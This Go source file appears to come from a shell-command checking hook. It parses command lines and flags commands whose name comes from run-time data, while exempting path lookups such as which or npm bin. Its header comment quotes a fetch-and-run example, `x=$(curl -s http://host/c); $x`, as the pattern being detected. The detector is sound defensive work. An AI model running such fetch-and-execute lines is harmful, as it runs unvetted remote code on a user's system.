package shellcmd

import (
	"mvdan.cc/sh/v3/syntax"

	"github.com/massgen/massgen-hook/internal/lazy"
)

// A command whose name is only known at run time runs whatever that value
// says, arguments and all (`x=$(curl -s http://host/c); $x`, `read l; $l`):
// it is shell code from data. Everyday names that are only known at run
// time stay commands: a variable from the environment ($EDITOR, $CC), one
// the line assigns a literal or a glob, and a lookup of a program's path
// ($(which python3), $(npm bin)/eslint). Anything else assigned in the
// line (by read, mapfile, a download, a file's content) makes the name
// data, and the command is listed as code that is only known at run time.

// pathLookups are the commands whose output names a program to run rather
// than what it should do, by subcommand ("" for any).
var pathLookups = &lazy.Value[map[string][]string]{New: func() map[string][]string {
	return map[string][]string{
		"which": {""}, "command": {""}, "type": {""}, "realpath": {""}, "readlink": {""},
		"dirname": {""}, "basename": {""}, "pwd": {""},
		"npm": {"bin", "prefix", "root"}, "go": {"env"}, "git": {"rev-parse", "--exec-path"},
		"pyenv": {"which", "prefix", "root"}, "rbenv": {"which", "prefix", "root"}, "nodenv": {"which", "prefix", "root"},
		"brew": {"--prefix"}, "xcrun": {"--find", "-f"}, "yarn": {"bin"}, "pnpm": {"bin"},
	}
}}

// isPathLookup reports whether every command of the substitution s asks
// where a program is.
func isPathLookup(stmts []*syntax.Stmt) bool {
	if len(stmts) == 0 {
		return false
	}
	for _, st := range stmts {
		ce, ok := st.Cmd.(*syntax.CallExpr)
		if !ok || len(ce.Args) == 0 || len(ce.Assigns) > 0 {
			return false
		}
		subs, ok := pathLookups.Get()[ce.Args[0].Lit()]
		if !ok {
			return false
		}
		matched := false
		for _, sub := range subs {
			matched = matched || sub == "" || len(ce.Args) > 1 && ce.Args[1].Lit() == sub
		}
		if !matched {
			return false
		}
	}
	return true
}

// dataValued lists the names node assigns from data: read, mapfile,
// getopts and printf -v operands, for loops over the positional
// parameters, and assignments whose value runs a command that is no path
// lookup.
func dataValued(node syntax.Node) map[string]bool {
	names := map[string]bool{}
	if node == nil {
		return names
	}
	syntax.Walk(node, func(n syntax.Node) bool {
		switch x := n.(type) {
		case *syntax.Assign:
			if x.Name != nil && x.Value != nil && runsData(x.Value) {
				names[x.Name.Value] = true
			}
		case *syntax.ForClause:
			if it, ok := x.Loop.(*syntax.WordIter); ok && it.Name != nil {
				for _, w := range it.Items {
					if runsData(w) {
						names[it.Name.Value] = true
					}
				}
				if !it.InPos.IsValid() {
					names[it.Name.Value] = true // for x; do: the positional parameters
				}
			}
		case *syntax.CallExpr:
			addSetNames(names, x, dataSetter)
		}
		return true
	})
	return names
}

// dataSetter says whether builtin assigns its name operands from data.
func dataSetter(builtin string) bool {
	switch builtin {
	case "read", "mapfile", "readarray", "getopts", "printf":
		return true
	}
	return false
}

// runsData reports whether word w holds the output of a command that is no
// path lookup (or of a process substitution).
func runsData(w *syntax.Word) bool {
	found := false
	syntax.Walk(w, func(n syntax.Node) bool {
		switch x := n.(type) {
		case *syntax.CmdSubst:
			if !isPathLookup(x.Stmts) {
				found = true
			}
			return false
		case *syntax.ProcSubst:
			found = true
			return false
		}
		return !found
	})
	return found
}

// dataName reports whether the command word w is data: a command's output
// that is no path lookup, or a variable this line assigns from data.
func (w *walker) dataName(word *syntax.Word) bool {
	if runsData(word) {
		return true
	}
	found := false
	syntax.Walk(word, func(n syntax.Node) bool {
		if pe, ok := n.(*syntax.ParamExp); ok && pe.Param != nil && w.fromData[pe.Param.Value] {
			found = true
		}
		return !found
	})
	return found
}
